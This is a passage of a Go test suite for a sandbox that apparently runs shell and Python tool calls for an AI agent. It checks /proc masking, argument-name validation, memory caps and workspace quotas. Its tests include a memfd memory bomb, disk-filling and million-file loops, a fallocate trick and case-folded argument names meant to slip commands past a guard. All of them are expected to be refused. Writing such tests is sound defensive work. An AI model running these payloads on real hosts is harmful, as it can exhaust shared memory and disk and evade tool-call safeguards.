		if !strings.Contains(out, "/proc/cmdline 0") || !strings.Contains(out, "No such file") {
			t.Fatalf("/proc/cmdline or /sys not masked:\n%s", out)
		}
		// Allow: what programs read still works.
		out = ok(t, py(t, cs, `
import os, multiprocessing
print(sum(l.startswith("Pid:") for l in open("/proc/self/status")))
print("MemTotal" in open("/proc/meminfo").read(), "cpu" in open("/proc/stat").read(), len(open("/proc/cpuinfo").read()) > 0)
print(os.cpu_count() > 0, multiprocessing.cpu_count() > 0, len(os.listdir("/proc/self/fd")) > 2)
`))
		if out != "1\nTrue True True\nTrue True True\n" {
			t.Fatalf("/proc should still serve programs: %q", out)
		}
		clean(t)
	})

	t.Run("32 argument names", func(t *testing.T) {
		// encoding/json folds case: "CMD" would fill cmd, and a guard
		// that reads arguments.cmd would see nothing.
		for _, tc := range []struct {
			tool string
			args map[string]any
		}{
			{"sh", map[string]any{"CMD": "echo BREACH"}},
			{"sh", map[string]any{"Cmd": "echo BREACH"}},
			{"sh", map[string]any{"cmd": "echo hi", "Timeout_S": 1}},
			{"sh", map[string]any{"cmſ": "echo BREACH"}},
			{"python_run", map[string]any{"CODE": "print('BREACH')"}},
			{"python_run", map[string]any{"code": "print(1)", "STDIN": "x"}},
		} {
			r := call(t, cs, tc.tool, tc.args)
			if !r.res.IsError || strings.Contains(r.text, "BREACH\n") || !strings.Contains(r.text, "unknown field") {
				t.Errorf("%s %v: want a refusal naming the field:\n%s", tc.tool, tc.args, r.text)
			}
		}
		// Allow: exact names run.
		if out := ok(t, call(t, cs, "sh", map[string]any{"cmd": "cat", "stdin": "in", "timeout_s": 5})); out != "in" {
			t.Fatalf("%q", out)
		}
		clean(t)
	})

	t.Run("31 workspace quota", func(t *testing.T) {
		testWorkspaceQuota(t)
		clean(t)
	})
}

// memAvailable reads the host's MemAvailable in bytes.
func memAvailable(t *testing.T) int64 { return procKB(t, "/proc/meminfo", "MemAvailable:") }

// memfdBomb holds 2.5 GiB of memfd pages, 64 MiB at a time: memory
// RLIMIT_AS does not count.
const memfdBomb = `
import os, sys
fds = []
chunk = b"x" * (1 << 20)
for i in range(40):
    fd = os.memfd_create("bomb")
    for _ in range(64):
        os.write(fd, chunk)
    fds.append(fd)
print("HELD", len(fds) * 64, "MiB", flush=True)
`

func testMemfdBomb(t *testing.T) {
	s := newTestSandbox(t, func(c *Config) { c.MemoryBytes = 1 << 30; c.FileSizeBytes = DefaultFileSizeBytes })
	cs := connect(t, s)
	// Watch the host's available memory while the bomb runs.
	before := memAvailable(t)
	low := before
	var mu sync.Mutex
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
			if m := memAvailable(t); true {
				mu.Lock()
				low = min(low, m)
				mu.Unlock()
			}
		}
	}()
	r := py(t, cs, memfdBomb)
	close(stop)
	wg.Wait()
	if strings.Contains(r.stdout(), "HELD") || !r.res.IsError {
		t.Fatalf("2.5 GiB of memfds held under a 1 GiB cap:\n%s", r.text)
	}
	iso, _ := r.st["isolation"].(map[string]any)
	switch MemoryCap(fmt.Sprint(iso["memory"])) {
	case MemoryCgroup1, MemoryCgroup2:
		if !r.flag("oom_killed") || !strings.Contains(r.text, "killed by the memory cap") {
			t.Fatalf("want a kill by the cgroup's memory cap, reported as such:\n%s", r.text)
		}
	case MemoryRlimit:
		if !strings.Contains(r.stderr(), "PermissionError") {
			t.Fatalf("want memfd_create refused:\n%s", r.text)
		}
	default:
		t.Fatalf("memory cap %v does not hold memfds:\n%s", iso["memory"], r.text)
	}
	if drop := before - low; drop > 1536<<20 {
		t.Fatalf("host MemAvailable fell by %d MiB during the call", drop>>20)
	}
	if !strings.Contains(r.text, "memory: ") {
		t.Fatalf("the isolation summary does not say what caps memory:\n%s", r.text)
	}
	// Allow: 200 MB in a bytearray, and a small memfd, under the same cap.
	out := ok(t, py(t, cs, `
import os
x = bytearray(200 * 1000 * 1000); x[-1] = 1; print(len(x))
fd = os.memfd_create("ok"); os.write(fd, b"y" * (16 << 20)); print(os.fstat(fd).st_size)
`))
	if out != "200000000\n16777216\n" {
		t.Fatalf("200 MB and a 16 MiB memfd should fit under 1 GiB: %q", out)
	}

	// Where no cgroup is used, memfd_create is refused, unless allowed.
	ns := newTestSandbox(t, func(c *Config) { c.MemoryBytes = 1 << 30; c.FileSizeBytes = DefaultFileSizeBytes; c.NoCgroup = true })
	ncs := connect(t, ns)
	r = py(t, ncs, memfdBomb)
	if strings.Contains(r.stdout(), "HELD") || !strings.Contains(r.stderr(), "PermissionError") {
		t.Fatalf("without a cgroup memfd_create should be refused:\n%s", r.text)
	}
	if !strings.Contains(r.text, "memfd_create and System V shared memory refused") {
		t.Fatalf("the summary should say memfds are refused:\n%s", r.text)
	}
	if out := ok(t, py(t, ncs, `x = bytearray(200 * 1000 * 1000); print(len(x))`)); out != "200000000\n" {
		t.Fatalf("200 MB should fit: %q", out)
	}
	as := newTestSandbox(t, func(c *Config) { c.NoCgroup = true; c.AllowMemfd = true })
	if out := ok(t, py(t, connect(t, as), `import os; fd = os.memfd_create("ok"); os.write(fd, b"y" * 4096); print("memfd-allowed")`)); out != "memfd-allowed\n" {
		t.Fatalf("AllowMemfd: %q", out)
	}
	if as.MemoryCap() != MemoryRlimitLeaky {
		t.Fatalf("AllowMemfd without a cgroup should say memfds are not counted: %s", as.MemoryCap())
	}
}

func testWorkspaceQuota(t *testing.T) {
	s := newTestSandbox(t, func(c *Config) { c.FileSizeBytes = 64 << 20 })
	cs := connect(t, s)
	// 2.9 GB in 64 MiB files (each file is within RLIMIT_FSIZE).
	r := call(t, cs, "sh", map[string]any{"cmd": `i=0; while [ $i -lt 44 ]; do head -c 67108864 /dev/zero > big$i || exit 9; i=$((i+1)); done; echo WROTE-ALL`, "timeout_s": 120})
	if strings.Contains(r.text, "WROTE-ALL") || !r.res.IsError || !strings.Contains(r.text, "passed its quota of 1 GiB") {
		t.Fatalf("2.9 GB written into a 1 GiB workspace:\n%.2000s", r.text)
	}
	if _, ok := r.st["quota_exceeded"]; !ok || !r.flag("killed") || r.flag("cancelled") {
		t.Fatalf("the result should say the quota killed it: %v", r.st)
	}
	ws := s.workspaceOf(t)
	if u := measureUsage(ws, usage{}); u.bytes > 2<<30 {
		t.Fatalf("the workspace holds %d MiB after the kill", u.bytes>>20)
	}
	// Making room works, and then writing again does.
	ok(t, sh(t, cs, `rm -f big*`))
	// Files past the 100k file limit. The quota is watched, not enforced
	// by the kernel, so the writer must not be able to finish before a
	// walk of the workspace sees it: it goes on to a million files (a
	// pause every 1,000 keeps it slower than a walk), and the watch must
	// stop it long before, on a loaded machine too. The test checks the
	// kill, not a race with the watch.
	r = call(t, cs, "python_run", map[string]any{"code": `
import os, time
os.mkdir("many")
for i in range(1000000):
    os.close(os.open("many/%d" % i, os.O_CREAT | os.O_WRONLY, 0o644))
    if i % 1000 == 999:
        time.sleep(0.05)
print("MADE-ALL")
`, "timeout_s": 120})
	if strings.Contains(r.text, "MADE-ALL") || !strings.Contains(r.text, "passed its quota of 100000 files") {
		t.Fatalf("a million files made in the workspace:\n%.2000s", r.text)
	}
	ok(t, sh(t, cs, `rm -rf many`))
	// fallocate takes space faster than the watch can see: refused, and
	// posix_fallocate falls back to writing.
	out := ok(t, py(t, cs, `
import os, errno
fd = os.open("pre", os.O_CREAT | os.O_WRONLY, 0o644)
try:
    os.fallocate(fd, 0, 0, 1 << 30) if hasattr(os, "fallocate") else None
    import ctypes; libc = ctypes.CDLL(None, use_errno=True)
    r = libc.fallocate(fd, 0, ctypes.c_long(0), ctypes.c_long(1 << 30))
    print("fallocate", r, errno.errorcode.get(ctypes.get_errno()))
except OSError as e:
    print("fallocate", errno.errorcode.get(e.errno))
os.posix_fallocate(fd, 0, 1 << 20)
print("posix_fallocate", os.fstat(fd).st_size)
`))
	if !(strings.Contains(out, "EOPNOTSUPP") || strings.Contains(out, "ENOTSUP")) || !strings.Contains(out, "posix_fallocate 1048576") {
		t.Fatalf("fallocate should be refused and posix_fallocate emulated: %q", out)
	}
	// Allow: ordinary files work.
	out = ok(t, sh(t, cs, `mkdir -p src && for i in $(seq 50); do echo "line $i" > src/f$i; done; head -c 10485760 /dev/zero > blob; cat src/f50; ls src | wc -l; wc -c < blob`))
	if out != "line 50\n50\n10485760\n" {
		t.Fatalf("ordinary files: %q", out)
	}
}

// workspaceOf returns the only per-session workspace of s.
func (s *Sandbox) workspaceOf(t *testing.T) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.workspaces) != 1 {
		t.Fatalf("%d workspaces", len(s.workspaces))
	}
	for _, ws := range s.workspaces {
		return ws.dir
	}
	return ""
}
